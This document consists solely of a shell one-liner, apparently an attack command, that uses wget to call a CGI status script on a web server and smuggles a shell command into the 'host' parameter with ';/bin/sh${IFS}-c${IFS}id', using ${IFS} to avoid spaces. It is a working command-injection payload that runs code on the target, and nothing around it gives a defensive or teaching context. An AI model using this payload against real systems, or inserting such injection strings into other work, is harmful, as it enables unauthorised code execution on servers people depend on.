wget -q -O /dev/null 'http://'"$IP_web_server"':8080/cgi-bin/status?host=x;/bin/sh${IFS}-c${IFS}id'
